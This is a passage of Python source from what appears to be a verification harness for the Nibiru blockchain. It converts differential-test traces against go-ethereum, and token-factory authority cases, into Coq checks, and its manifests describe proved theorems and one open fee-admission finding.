            out.append((False, 0, 0, 0, tuple(r["s"])))
        else:
            out.append((True, int(r["b"]), r["n"], r.get("c", 0), tuple(r["s"])))
    return out


def _first_divergence(rec):
    """(index of the first message after which Nibiru and go-ethereum differ, what differs) or (None, None)"""
    ob = rec["obs"]
    if _norm_rows(ob["init_nib"]) != _norm_rows(ob["init_geth"]):
        return -1, "genesis"
    for i, (n, g, ok) in enumerate(zip(ob["nib"], ob["geth"], ob["hash_ok"])):
        if n["rejected"] != g["rejected"]:
            return i, "verdict"
        if not n["rejected"] and (n["gas"], n["err"], n.get("ret") or [], n.get("logs") or []) != (g["gas"], g["err"], g.get("ret") or [], g.get("logs") or []):
            return i, "result"
        if not ok:
            return i, "log-tx-hash"
        if _norm_rows(n["state"]) != _norm_rows(g["state"]):
            return i, "state"
    return None, None


def _tx_type(m):
    return {0: "access-list" if m.get("al") else "legacy", 1: "access-list", 2: "dynamic-fee"}[m.get("typ", 0)]


def signature(rec):
    if _is_msgs(rec):
        # identified by the FIRST message after which the two chains differ (everything later is a consequence)
        i, what = _first_divergence(rec)
        if i is None or i < 0:
            return {"kind": "message-history-divergence", "first": what or "none"}
        h, n, g = rec["obs"]["hdrs"][i], rec["obs"]["nib"][i], rec["obs"]["geth"][i]
        base, tip, cap = int(h["base"]), int(h["tip"]), int(h["cap"])
        if what == "verdict" and cap < base and tip <= cap and not n["rejected"] and g["rejected"]:
            # open finding F-B: a gas price / fee cap below the base fee is admitted and charged at the base fee
            return {"kind": "admission", "shape": "price-below-base-fee-executed"}
        if what == "verdict":
            return {"kind": "admission", "shape": "nibiru-%s-geth-%s" % ("rejects" if n["rejected"] else "executes", "rejects" if g["rejected"] else "executes"),
                    "tx_type": _tx_type(rec["input"]["msgs"][i]), "message_class": _msg_classes(rec)[i]}
        return {"kind": "message-history-divergence", "first": what, "tx_type": _tx_type(rec["input"]["msgs"][i]),
                "message_class": _msg_classes(rec)[i]}
    if _is_prog(rec):
        return {"kind": "program-divergence", "stmts": sorted(_prog_kinds(rec))}
    kinds = sorted({o["k"] for tx in rec["input"] for o in tx})
    return {"kind": "statedb-divergence", "ops": kinds}


def input_size(inp):
    if isinstance(inp, dict) and "msgs" in inp:
        return (sum(len(b) for b in inp["bodies"]) * 4 + len(inp.get("stor") or []) + 10 * len(inp["msgs"]) +
                sum(len(m.get("al") or []) + m.get("value", 0) + m.get("data", 0) + abs(m.get("dnonce", 0)) for m in inp["msgs"]))
    if isinstance(inp, dict):
        return sum(len(b) for b in inp["bodies"]) * 4 + len(inp.get("stor") or []) + len(inp.get("al") or []) + inp.get("value", 0)
    return sum(len(tx) for tx in inp) + len(inp)


def _shrink_prog(inp):
    out = []
    for bi, b in enumerate(inp["bodies"]):
        for i in range(len(b)):
            nb = b[:i] + b[i + 1:]
            if nb or bi > 0:
                c = dict(inp)
                c["bodies"] = inp["bodies"][:bi] + [nb] + inp["bodies"][bi + 1:]
                out.append(c)
    for key in ("stor", "al"):
        lst = inp.get(key) or []
        for i in range(len(lst)):
            c = dict(inp)
            c[key] = lst[:i] + lst[i + 1:]
            out.append(c)
    if inp.get("value"):
        out.append(dict(inp, value=0))
    return out


def _shrink_msgs(inp):
    out = []
    ms = inp["msgs"]
    for i in range(len(ms)):
        if len(ms) > 1:
            out.append(dict(inp, msgs=ms[:i] + ms[i + 1:]))
    for bi, b in enumerate(inp["bodies"]):
        for i in range(len(b)):
            nb = b[:i] + b[i + 1:]
            out.append(dict(inp, bodies=inp["bodies"][:bi] + [nb] + inp["bodies"][bi + 1:]))
    st = inp.get("stor") or []
    for i in range(len(st)):
        out.append(dict(inp, stor=st[:i] + st[i + 1:]))
    for i, m in enumerate(ms):
        for key in ("value", "data", "al"):
            if m.get(key):
                m2 = dict(m)
                del m2[key]
                out.append(dict(inp, msgs=ms[:i] + [m2] + ms[i + 1:]))
    return out


def shrink_candidates(inp):
    if isinstance(inp, dict) and "msgs" in inp:
        return _shrink_msgs(inp)
    if isinstance(inp, dict):
        return _shrink_prog(inp)
    out = []
    if len(inp) > 1:
        out.append(inp[:-1])
        for i in range(1, len(inp)):
            out.append(inp[:i] + inp[i + 1:])
    for ti, tx in enumerate(inp):
        n = len(tx)
        # drop halves / quarters / single ops
        step = max(1, n // 2)
        while step >= 1:
            for i in range(0, n, step):
                nt = tx[:i] + tx[i + step:]
                if len(nt) < n:
                    out.append(inp[:ti] + [nt] + inp[ti + 1:])
            if step == 1:
                break
            step //= 2
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("PARTIAL (the geth interpreter is common code and is not modelled; the theorems live at the vm.StateDB interface). "
                 "Coq theorems C03_journal_revert_exact / C03_step_refines_reference: for EVERY sequence of vm.StateDB calls that obeys the "
                 "interpreter's usage protocol (CreateAccount only on blank addresses, SubRefund <= refund, reverts to live snapshot ids) - "
                 "any length, any nesting of Snapshot/RevertToSnapshot - the model of Nibiru's journaled, lazily-loading, OriginStorage-caching "
                 "StateDB returns from every call exactly what the reference semantics (plain maps, Snapshot = push a full copy, Revert = pop) "
                 "returns, and all getters agree afterwards. C03_invariants_reachable + C03_commit_writes_exactly_visible: in every reachable "
                 "StateDB the caches are coherent and Journal.dirties counts the journal, hence Commit leaves for every address exactly the "
                 "reference's end-of-transaction account and storage in the keeper (balance = wei/10^12; self-destructed accounts removed with "
                 "their storage; accounts nobody is charged for need no write). C03_history_from_genesis / C03_history_equals_reference_history: "
                 "for multi-transaction histories moving whole multiples of 10^12 wei every return value of every call equals the pure "
                 "reference history's and the final keeper is the reference's final world. C03_refund_cap_eq_geth, C03_refund_cap_bounds, "
                 "C03_nonce_bracket, C03_parse_wei_multiple cover ApplyEvmMsg's arithmetic. C03_commit_code_table / C03_delete_account_keeps_bytecode / "
                 "C03_code_retrievable_after_tx: the bytecode table shared by hash only grows at Commit and DeleteAccount leaves it alone, so code "
                 "of surviving siblings of a self-destructed contract stays retrievable. C03_boolean_protocol_check_sound links the boolean "
                 "protocol check evaluated on traces to the Prop-level hypotheses. The journal/commit discipline of the CURRENT tree (per "
                 "JournalChange: fields, Dirtied, Revert effects; per mutator: which entry is appended with which previous value, before the "
                 "mutation, under which condition; access-list change conditions; commitCtx; Keeper.DeleteAccount) is re-extracted with go/ast on "
                 "every run (Gen/C03Facts.v) and proved equal to the table the model is written from (Gen/C03Oblig.v: C03_facts_*, "
                 "C03_holds_for_current_tree). The model is run against the real statedb.StateDB + "
                 "keeper stores AND go-ethereum core/state on generated call sequences (return value of every call, keeper table after every "
                 "commit), and generated EVM bytecode is run through Keeper.ApplyEvmMsg vs geth core.ApplyMessage (gas after refunds, error "
                 "class, return data, logs, post-state); the proved-sound checkers Pb / Pprog_b are evaluated on those traces. MESSAGE LAYER (Msg.v): histories of "
                 "MsgEthereumTx delivered like baseapp.runTx (own cache-context branch per message, ante chain, Keeper.EthereumTx with the "
                 "process-wide per-tx StateDB pointer Bank.StateDB, written back only on success). C03_message_delivery_is_specification: when "
                 "the published StateDB is forgotten on every return path, delivery of ANY history (any mix of messages rejected by the ante "
                 "chain, rejected for intrinsic gas, executed) equals the pointer-free specification and leaves no StateDB behind; "
                 "C03_message_history_equals_reference (+ _after_every_message): every message gets the verdict of the reference state transition "
                 "(preCheck+buyGas, intrinsic gas, one reference transaction, refundGas), executed ones the reference's return value for every "
                 "call, and the block state is the reference's world after every message; C03_rejected_message_has_no_effect; "
                 "C03_msgs_stale_statedb_refuted: the variant clearing only on the success path is refuted by a 2-message witness. "
                 "C03_admission_equals_reference: the three tx types in one shape (base fee, tip, fee cap); with the sender balance checked against "
                 "TxData.Cost() the ante chain admits a message exactly when go-ethereum's preCheck+buyGas does (fee cap >= base fee); "
                 "C03_msgs_effective_cost_admission_refuted (balance checked against the effective cost) and C03_admission_below_base_fee_refuted "
                 "(price below the base fee is admitted: finding on the pinned tree); what CheckSenderBalance compares with is re-extracted "
                 "(C03_facts_sender_balance_check). STANDARD PRECOMPILES (Precompiles.v): price tables per upstream fork table; "
                 "C03_std_precompiles_istanbul_berlin_differ_only_in_modexp, C03_modexp_london_price (EIP-2565), C03_istanbul_precompile_table_refuted; "
                 "which table InitPrecompiles copies is re-extracted (C03_facts_std_precompiles_london) and the MODEXP price of messages sent straight "
                 "to 0x05 is compared with the model. Whether "
                 "EthereumTx defers the clear before any return following the acquisition is re-extracted from the source on every run "
                 "(C03_facts_ethereumtx_clears_statedb, C03_messages_hold_for_current_tree). Driver (c) runs generated message histories "
                 "through the real ante chain + Keeper.EthereumTx vs geth core.ApplyMessage, compared after every message (checker Pmsgs_b, "
                 "proved sound), and the message-layer model's verdicts / no-effect-on-rejection / sender nonce against Nibiru."),
        "design_ref": "DESIGN.md §5 C03",
    },
    "level_note": ("OPEN FINDING on the pinned tree (known_findings.json): a message priced below the base fee is admitted and charged at the base fee "
                   "(go-ethereum rejects it) - C03_admission_below_base_fee_refuted; the message theorems carry the side condition fee cap >= base fee. "
                   "Not proved: the interpreter; that geth core/state implements the copy-stack reference (tested three-way on every run); that the "
                   "residual difference - Nibiru keeps touched empty accounts, geth deletes them (EIP-158), visible only through Exist/GetCodeHash on "
                   "empty accounts - cannot influence London-rules execution (argued in README, exercised by the bytecode driver). Model abstractions: "
                   "code identified with its hash (stateObject.code byte cache not modelled), linear instead of binary search of validRevisions, "
                   "no uint64 wrap-around, no negative balances, no precompile/cache-context layer (C04). Trusted: Coq kernel + vm_compute, Go drivers "
                   "harness/c03 (id encodings, panic capture, gas tracer), tools/props/c03.py rendering, go-ethereum core/state + core.ApplyMessage as "
                   "the meaning of 'upstream'; for the generated-facts obligations additionally the extractor harness/gen/c03 (go/parser+go/ast, prints "
                   "normal-form terms only; vocab.go undoes consistent renames of unexported fields / methods recognised by type sequence / signature; "
                   "ethtx.go reads the defer discipline of Keeper.EthereumTx) and the hand-maintained table coq/C03/Discipline.v, whose correspondence to the Gallina definitions is by "
                   "inspection (the Dirtied column is proved). Two code changes that are invisible at this interface (Journal.Revert not decrementing "
                   "dirties; final Commit not updating OriginStorage) are detected by those obligations only, not by the correspondence."),
    "technique": ("Coq refinement proof: observable view of the journaled StateDB; per-method forward simulation + journal-revert lemmas; simulation "
                  "relation with saved revisions; structural invariants via decomposition into primitive transitions; pointwise state equality "
                  "(no functional extensionality). Tie to the code: generated facts (go/ast normal form of the journal/commit discipline) with proof obligations; differential correspondence model vs Nibiru vs go-ethereum on generated call "
                  "sequences and generated bytecode, inside Coq with vm_compute."),
}
