"""C15 — only a token-factory denom's current admin can change its supply or control."""
import json
import os

ID = "C15"
HARNESS_TEST = "TestC15"
COQ_MODEL = ["C15/Check.v"]
COQ_PROOF_DEPS = ["C15/Proofs.v"]
COQ_OBLIG = ["C15/Property.v"]
CASES_HEADER = "Require Import Nib.C15.Model Nib.C15.Spec Nib.C15.Check.\nOpen Scope string_scope."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
# C15_STRICT=1 evaluates the statement to the letter (MsgBurnNative of tf coins by a holder is then a violation)
VIOLATES_FN = "violates_strict" if os.environ.get("C15_STRICT") else "violates"
RULE = ("case = optional genesis denoms (renounced / foreign admin, pre-funded) + 4-12 token-factory messages "
        "(CreateDenom, Mint, Burn, ChangeAdmin, SetDenomMetadata, BurnNative) each delivered through DeliverTx, signed by "
        "current admin / former admin / other users; denoms: existing ones (any creator), 16 look-alike / malformed / non-tf "
        "shapes; amounts incl. 0, negative, above balance; mint-to / burn-from: default, other users, blocked and unblocked "
        "module accounts, upper-case bech32, unparsable; 5 fixed opener histories first; non-trivial = some supply-changing "
        "message was accepted AND some message aimed at an existing denom by a non-admin (or a former admin after a "
        "hand-over) was rejected; distinct = distinct input")
ASSUMPTIONS = [
    "sdk.ValidateDenom, bech32 parsing of mint_to/burn_from/new_admin and bank Metadata.Validate are taken from the implementation as flags (dv, target, na_valid, md_valid)",
    "every tx carries one message, is signed by its sender, fee 0",
    "addresses are renamed to @i / @Ui (injective), denoms keep their exact characters otherwise",
]
TRUSTED = ["snapshot reads: BankKeeper.GetSupply / GetBalance, TokenFactoryKeeper.Store.GetDenomAuthorityMetadata"]


def _s(x):
    return '"' + x.replace('"', '""') + '"'


def _z(x):
    return "(%d)%%Z" % int(x)


def _b(x):
    return "true" if x else "false"


def _raw(sn):
    return "([%s], [%s], [%s])" % ("; ".join(_z(v) for _, v in sn["supply"]), "; ".join(_z(v) for _, _, v in sn["bal"]),
                                   "; ".join("None" if a is None else "Some %s" % _s(a) for _, a in sn["admin"]))


def _keys(sn):
    return "([%s], [%s])" % ("; ".join(_s(d) for d, _ in sn["supply"]), "; ".join("(%s, %s)" % (_s(a), _s(d)) for a, d, _ in sn["bal"]))


def _target(t):
    if t == "":
        return "TDefault"
    if t == "!":
        return "TInvalid"
    return "(TAcct %s)" % _s(t)


def _op(op, ob):
    s = _s("@%d" % op["sender"])
    t = op["t"]
    d = _s(op.get("denom", ""))
    if t == "create":
        return "Create %s %s" % (s, _s(op.get("sub", "")))
    if t == "mint":
        return "Mint %s %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)), _target(ob["target"]))
    if t == "burn":
        return "Burn %s %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)), _target(ob["target"]))
    if t == "admin":
        return "ChangeAdmin %s %s %s %s" % (s, d, _s(op.get("new_admin", "")), _b(ob["na_valid"]))
    if t == "meta":
        return "SetMeta %s %s %s" % (s, d, _b(ob["md_valid"]))
    return "BurnNative %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)))


def to_coq_case(rec):
    o = rec["obs"]
    steps = []
    for op, ob in zip(rec["input"]["ops"], o["ops"]):
        steps.append("(%s, %s, %s)" % (_op(op, ob), _b(ob["ok"]), _raw(ob["snap"])))
    return "([%s], %s, %s, [%s])" % ("; ".join(_s(b) for b in o["blocked"]), _keys(o["init"]), _raw(o["init"]), ";\n    ".join(steps))


def _admin_before(rec):
    """admin map (canonical) before each op"""
    out = []
    cur = {d: a for d, a in rec["obs"]["init"]["admin"]}
    for ob in rec["obs"]["ops"]:
        out.append(dict(cur))
        cur = {d: a for d, a in ob["snap"]["admin"]}
    return out


def nontrivial(rec):
    moved = False
    refused = False
    before = _admin_before(rec)
    prev = {d: v for d, v in rec["obs"]["init"]["supply"]}
    for op, ob, adm in zip(rec["input"]["ops"], rec["obs"]["ops"], before):
        cur = {d: v for d, v in ob["snap"]["supply"]}
        if cur != prev:
            moved = True
        prev = cur
        d = op.get("denom", "")
        if op["t"] in ("mint", "burn", "admin", "meta") and adm.get(d) is not None and not ob["ok"] and adm.get(d) != "@%d" % op["sender"]:
            refused = True
    return moved and refused


def classify(rec):
    ks = ["ops=%d" % len(rec["input"]["ops"]), "genesis=%d" % len(rec["input"].get("genesis") or [])]
    before = _admin_before(rec)
    for op, ob, adm in zip(rec["input"]["ops"], rec["obs"]["ops"], before):
        ks.append("op:%s/%s" % (op["t"], "accepted" if ob["ok"] else "rejected"))
        d = op.get("denom", "")
        if op["t"] != "create":
            known = adm.get(d) is not None
            ks.append("denom:" + ("registered" if known else "unregistered"))
            if known and op["t"] != "burnnative":
                ks.append("signer:" + ("admin" if adm.get(d) == "@%d" % op["sender"] else "not-admin"))
        if op["t"] in ("mint", "burn"):
            t = ob["target"]
            ks.append("target:" + ("default" if t == "" else "unparsable" if t == "!" else "module" if t in ("@4", "@5", "@6") else "other-user"))
        if op["t"] == "burnnative" and ob["ok"] and d.startswith("tf/"):
            ks.append("burnnative-of-tf-denom-accepted")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    kinds = sorted({op["t"] for op in rec["input"]["ops"]})
    bn = any(op["t"] == "burnnative" and ob["ok"] and op.get("denom", "").startswith("tf/")
             for op, ob in zip(rec["input"]["ops"], rec["obs"]["ops"]))
    return {"kind": "burnnative-moves-tf-supply" if bn and os.environ.get("C15_STRICT") else "tokenfactory-authority", "ops": kinds}


def input_size(inp):
    return 10 * len(inp["ops"]) + 5 * len(inp.get("genesis") or [])


def shrink_candidates(inp):
    out = []
    ops = inp["ops"]
    for i in range(len(ops)):
        if len(ops) > 1:
            out.append(dict(inp, ops=ops[:i] + ops[i + 1:]))
    gs = inp.get("genesis") or []
    for i in range(len(gs)):
        out.append(dict(inp, genesis=gs[:i] + gs[i + 1:]))
    return out


MANIFEST = {
    "level_claimed": {"category": "proof", "text": "TODO", "design_ref": "DESIGN.md §5 C15"},
    "level_note": "TODO",
    "technique": "Coq proof (per-step case analysis + induction over histories) + differential correspondence on DeliverTx traces",
}
