"""C15 — only a token-factory denom's current admin can change its supply or control."""
import json
import os

ID = "C15"
GEN = "c15"
HARNESS_TEST = "TestC15"
COQ_MODEL = ["C15/Check.v", "C15/Sites.v", "Gen/C15Facts.v", "C15/Current.v"]
COQ_PROOF_DEPS = ["C15/Proofs.v", "C15/ProofsTree.v"]
COQ_OBLIG = ["C15/Property.v", "Gen/C15Oblig.v"]
CASES_HEADER = "Require Import Nib.C17.MsgTree Nib.C15.Model Nib.C15.Spec Nib.C15.Check Nib.C15.Current.\nOpen Scope string_scope."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_wcfg"
# The statement is evaluated to the letter ("violates_strict"): MsgBurnNative of tf coins by a holder who is not the
# admin violates it -> open KNOWN FINDING (known_findings.json, signature {"kind": "burnnative-moves-tf-supply"}).
# C15_LENIENT=1 evaluates the form the implementation realises (native burn of the signer's own coins allowed).
VIOLATES_FN = "violates" if os.environ.get("C15_LENIENT") else "violates_strict"
RULE = ("MESSAGE CARRIERS (77 % of the cases hold at least one): any message may ride in authz MsgExec wrappers (depth 1-3, grantee = signer of the inner "
        "message or somebody else, with / without / after a revoked authz grant, grants for another message type, two levels with different grantees), "
        "be dispatched by the case's own reflect contract (account 8, owner = user 0; Stargate messages through app/wasmext's handler; also called by a "
        "non-owner), or both (contract-dispatched MsgExec naming the admin as grantee — 34 % of the cases hold such impersonation attempts against an "
        "existing denom, incl. mint to the contract / burn from a holder / hand-over to the contract —, MsgExecuteContract inside MsgExec, MsgExec with "
        "several messages); the contract as creator / admin / successor / granter of a denom (22 %); MsgGrant / MsgRevoke as messages of the history; "
        "authz grants among users and contract are part of every snapshot; genesis export/import round trips of the module (export, empty the module store, import) at arbitrary points, after hand-overs to funded successors, to a never-funded address (no x/auth account) and on renounced / foreign-admin genesis denoms, followed by attempts of every party; the admins a genesis section states must be the admins installed; txs of 1-4 messages (35 % of the cases hold a tx whose LATER message fails — blocked target, unknown denom, not admin, "
        "insufficient funds — after a hand-over / mint in the same tx, signed by one or two signers, followed by mint / burn / hand-over "
        "attempts of every party); case = optional genesis denoms (renounced / foreign admin, pre-funded) + 4-12 token-factory messages "
        "(CreateDenom, Mint, Burn, ChangeAdmin, SetDenomMetadata, BurnNative) each delivered through DeliverTx, signed by "
        "current admin / former admin / other users; denoms: existing ones (any creator), 16 look-alike / malformed / non-tf "
        "shapes; amounts incl. 0, negative, above balance; mint-to / burn-from: default, other users, blocked and unblocked "
        "module accounts, upper-case bech32, unparsable; 5 fixed opener histories first; non-trivial = some supply-changing "
        "message was accepted AND some message aimed at an existing denom by a non-admin (or a former admin after a "
        "hand-over, or through a carrier) was rejected; distinct = distinct input")
ASSUMPTIONS = [
    "sdk.ValidateDenom, bech32 parsing of mint_to/burn_from/new_admin and bank Metadata.Validate are taken from the implementation as flags (dv, target, na_valid, md_valid)",
    "every tx is signed by the signers of all its TOP-LEVEL messages (nested messages are not signed: that is the point of carriers), fee 0; snapshots are taken after each TX",
    "carriers: authz MsgExec / MsgGrant (GenericAuthorization, no expiry) / MsgRevoke with the SDK's DispatchActions rule (grantee's own messages implicitly accepted) and one reflect contract per case that re-dispatches whatever its owner sends; the ICA-host and gov-proposal carriers are in the model and the theorems (Nib.C17.MsgTree) but not driven; sub-message reply handling of contracts (errors swallowed by the contract) is not modelled",
    "a token-factory leaf carries the account its sender string names (GetSigners of the built message, checked against the string by case_wf)",
    "addresses are renamed to @i / @Ui (injective), denoms keep their exact characters otherwise",
]
TRUSTED = ["snapshot reads: BankKeeper.GetSupply / GetBalance, TokenFactoryKeeper.Store.GetDenomAuthorityMetadata, authz Keeper.GetAuthorization (a reader over the app's authz store)",
           "coq/C17/MsgTree.v (shared message-tree dispatcher, also used by C17 and C02)",
           "harness/gen/c15/wasm.go: go/ast reading of app/wasmext's per-message handler (found from DispatchMsg) as a guard sequence"]


def _s(x):
    return '"' + x.replace('"', '""') + '"'


def _z(x):
    return "(%d)%%Z" % int(x)


def _b(x):
    return "true" if x else "false"


def _raw(sn):
    return "([%s], [%s], [%s])" % ("; ".join(_z(v) for _, v in sn["supply"]), "; ".join(_z(v) for _, _, v in sn["bal"]),
                                   "; ".join("None" if a is None else "Some %s" % _s(a) for _, a in sn["admin"]))


def _keys(sn):
    return "([%s], [%s])" % ("; ".join(_s(d) for d, _ in sn["supply"]), "; ".join("(%s, %s)" % (_s(a), _s(d)) for a, d, _ in sn["bal"]))


def _target(t):
    if t == "":
        return "TDefault"
    if t == "!":
        return "TInvalid"
    return "(TAcct %s)" % _s(t)


KINDS = {"create": "MKLeaf K_CREATE", "mint": "MKLeaf K_MINT", "burn": "MKLeaf K_BURN", "admin": "MKLeaf K_ADMIN",
         "meta": "MKLeaf K_META", "burnnative": "MKLeaf K_BURNNATIVE", "grant": "MKLeaf K_GRANT", "revoke": "MKLeaf K_REVOKE",
         "exec": "MKExec", "wasm": "MKWasm"}
CONTRACT = 8


def _n(x):
    return "%d%%nat" % int(x)


def _kind(k):
    return KINDS.get(k, "MKLeaf 99%nat")


def _tree(op, ob):
    """Coq term of type msg (tree leaf) for one message with everything it carries"""
    t = op["t"]
    if t in ("exec", "wasm"):
        kids = "; ".join(_tree(c, co) for c, co in zip(op.get("c") or [], ob.get("c") or []))
        if t == "exec":
            return "Exec %s [%s]" % (_n(op.get("g", 0)), kids)
        return "Wasm %s %s [%s]" % (_n(op.get("g", 0)), _n(CONTRACT), kids)
    if t == "grant":
        return "Leaf (LGrant %s %s (%s))" % (_n(op["sender"]), _n(op.get("g", 0)), _kind(op.get("k", "")))
    if t == "revoke":
        return "Leaf (LRevoke %s %s (%s))" % (_n(op["sender"]), _n(op.get("g", 0)), _kind(op.get("k", "")))
    return "Leaf (LOp %s (%s))" % (_n(ob.get("signer", 0) if t != "reimport" else 0), _op(op, ob))


def _grants(gs):
    return "[%s]" % "; ".join("(%s, %s, %s)" % (_n(g["from"]), _n(g["to"]), _kind(g["k"])) for g in (gs or []))


def leaves(op, ob=None):
    """token-factory leaves of a message tree, in execution order, as (op, obs-or-None, path of carriers)"""
    out = []

    def go(o, b, path):
        if o["t"] in ("exec", "wasm"):
            kids = o.get("c") or []
            bk = (b or {}).get("c") or [None] * len(kids)
            for c, cb in zip(kids, bk):
                go(c, cb, path + [o["t"]])
        elif o["t"] not in ("grant", "revoke"):
            out.append((o, b, path))
    go(op, ob, [])
    return out


def has_carrier(op):
    return op["t"] in ("exec", "wasm")


def _op(op, ob):
    s = _s("@%d" % op["sender"])
    t = op["t"]
    d = _s(op.get("denom", ""))
    if t == "reimport":
        return "Reimport"
    if t == "create":
        return "Create %s %s" % (s, _s(op.get("sub", "")))
    if t == "mint":
        return "Mint %s %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)), _target(ob["target"]))
    if t == "burn":
        return "Burn %s %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)), _target(ob["target"]))
    if t == "admin":
        return "ChangeAdmin %s %s %s %s" % (s, d, _s(op.get("new_admin", "")), _b(ob["na_valid"]))
    if t == "meta":
        return "SetMeta %s %s %s" % (s, d, _b(ob["md_valid"]))
    return "BurnNative %s %s %s %s" % (s, d, _b(ob["dv"]), _z(op.get("amt", 0)))


def _txs(rec):
    """group the flat message list into txs ("join": the message rides in the tx of the previous one)"""
    out = []
    for i, (op, ob) in enumerate(zip(rec["input"]["ops"], rec["obs"]["ops"])):
        if i > 0 and op.get("join"):
            out[-1].append((op, ob))
        else:
            out.append([(op, ob)])
    return out


def to_coq_case(rec):
    o = rec["obs"]
    steps = []
    for tx in _txs(rec):
        last = tx[-1][1]
        steps.append("([%s], %s, %s, %s)" % ("; ".join(_tree(op, ob) for op, ob in tx), _b(last["ok"]), _raw(last["snap"]),
                                             _grants(last["snap"].get("grants"))))
    gen = "; ".join("(%s, Some %s)" % (_s(g["denom"]), _s(g.get("admin", ""))) for g in (rec["input"].get("genesis") or []))
    return "([%s], [%s], %s, %s, %s, [%s])" % ("; ".join(_s(b) for b in o["blocked"]), gen, _keys(o["init"]), _raw(o["init"]),
                                               _grants(o["init"].get("grants")), ";\n    ".join(steps))


def _admin_before(rec):
    """admin map (canonical) before the TX each top-level message rides in"""
    out = []
    cur = {d: a for d, a in rec["obs"]["init"]["admin"]}
    for tx in _txs(rec):
        for _ in tx:
            out.append(dict(cur))
        cur = {d: a for d, a in tx[-1][1]["snap"]["admin"]}
    return out


def _shape(op):
    """carrier chain of a message, e.g. wasm>exec>mint"""
    if op["t"] in ("exec", "wasm"):
        kids = op.get("c") or []
        return op["t"] + ">" + (_shape(kids[0]) if kids else "()") + ("+%d" % (len(kids) - 1) if len(kids) > 1 else "")
    return op["t"]


def _depth(op):
    if op["t"] in ("exec", "wasm"):
        return 1 + max([_depth(c) for c in (op.get("c") or [])] + [0])
    return 0


def nontrivial(rec):
    moved = False
    refused = False
    before = _admin_before(rec)
    prev = {d: v for d, v in rec["obs"]["init"]["supply"]}
    for op, ob, adm in zip(rec["input"]["ops"], rec["obs"]["ops"], before):
        cur = {d: v for d, v in ob["snap"]["supply"]}
        if cur != prev:
            moved = True
        prev = cur
        for lf, _, path in leaves(op, ob):
            d = lf.get("denom", "")
            if lf["t"] in ("mint", "burn", "admin", "meta") and adm.get(d) is not None and not ob["ok"]:
                # aimed at an existing denom and refused: by somebody who is not the admin, or through a carrier
                if adm.get(d) != "@%d" % lf["sender"] or path:
                    refused = True
    return moved and refused


def classify(rec):
    ks = ["ops=%d" % min(len(rec["input"]["ops"]), 30), "genesis=%d" % len(rec["input"].get("genesis") or [])]
    for tx in _txs(rec):
        if len(tx) > 1:
            ks.append("multi-msg-tx(%d):%s" % (min(len(tx), 4), "accepted" if tx[-1][1]["ok"] else "rolled-back"))
            if len({ob.get("signer", op["sender"]) for op, ob in tx}) > 1:
                ks.append("multi-signer-tx")
    before = _admin_before(rec)
    any_carrier = False
    for op, ob, adm in zip(rec["input"]["ops"], rec["obs"]["ops"], before):
        res = "accepted" if ob["ok"] else "rejected"
        if op["t"] in ("grant", "revoke"):
            ks.append("op:%s/%s" % (op["t"], res))
            continue
        if has_carrier(op):
            any_carrier = True
            ks.append("carrier:%s/%s" % (_shape(op), res))
            ks.append("carrier-depth=%d" % _depth(op))
        for lf, lb, path in leaves(op, ob):
            if lf["t"] in ("grant", "revoke"):
                continue
            ks.append("op:%s/%s" % (lf["t"], res))
            d = lf.get("denom", "")
            if lf["t"] == "reimport":
                continue
            if lf.get("new_admin") == "@7" or adm.get(d) == "@7":
                ks.append("admin-without-account")
            if lf.get("sender") == CONTRACT or adm.get(d) == "@8" or lf.get("new_admin") == "@8":
                ks.append("contract-as-party")
            if lf["t"] != "create":
                known = adm.get(d) is not None
                ks.append("denom:" + ("registered" if known else "unregistered"))
                if known and lf["t"] != "burnnative":
                    is_admin = adm.get(d) == "@%d" % lf["sender"]
                    ks.append("signer:" + ("admin" if is_admin else "not-admin"))
                    if path and is_admin:
                        ks.append("admin-message-in-carrier:%s/%s" % (path[0], res))
            if lf["t"] in ("mint", "burn") and lb is not None:
                t = lb["target"]
                ks.append("target:" + ("default" if t == "" else "unparsable" if t == "!" else "module" if t in ("@4", "@5", "@6") else "contract" if t == "@8" else "other-user"))
            if lf["t"] == "burnnative" and ob["ok"] and d.startswith("tf/"):
                ks.append("burnnative-of-tf-denom-accepted")
    if any_carrier:
        ks.append("case-with-carrier")
    if any(ob["snap"].get("grants") for ob in rec["obs"]["ops"]):
        ks.append("case-with-grant")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


_SIG_CACHE = {}
_PREFETCHED = [False]


def _key(rec):
    import hashlib
    return hashlib.sha1(json.dumps([rec["input"], rec["obs"]], sort_keys=True).encode()).hexdigest()


def _is_candidate(rec):
    return any(lf["t"] == "burnnative" and ob["ok"] and lf.get("denom", "").startswith("tf/")
               for op, ob in zip(rec["input"]["ops"], rec["obs"]["ops"]) for lf, _, _ in leaves(op, ob))


def _env():
    import sys
    chk = sys.modules.get("__main__")
    coq = getattr(chk, "COQ", os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "coq"))
    build = getattr(chk, "BUILD", "/tmp")
    wd = os.path.join(build, "run", ID)
    os.makedirs(wd, exist_ok=True)
    return coq, wd


def _eval_lenient(recs, tag):
    """One coqc run (per 300 records): which of these records satisfy the lenient checker AND agree with the model."""
    import re, subprocess
    coq, wd = _env()
    ok = set()
    for si in range(0, len(recs), 300):
        sh = recs[si:si + 300]
        path = os.path.join(wd, "sig_C15_%s_%d.v" % (tag, si // 300))
        with open(path, "w") as f:
            f.write("From Coq Require Import List ZArith String. Import ListNotations.\n" + CASES_HEADER + "\n")
            f.write("Set Printing Width 1000000. Set Printing Depth 1000000.\n")
            f.write("Definition cases : list (nat * case) := [\n")
            f.write(";\n".join("  (%d%%nat, %s)" % (i, to_coq_case(r)) for i, r in enumerate(sh)))
            f.write("\n].\nDefinition L := Eval vm_compute in map fst (filter (fun c => andb (negb (violates (snd c))) (negb (" + MISMATCH_FN + " (snd c)))) cases).\nPrint L.\n")
        try:
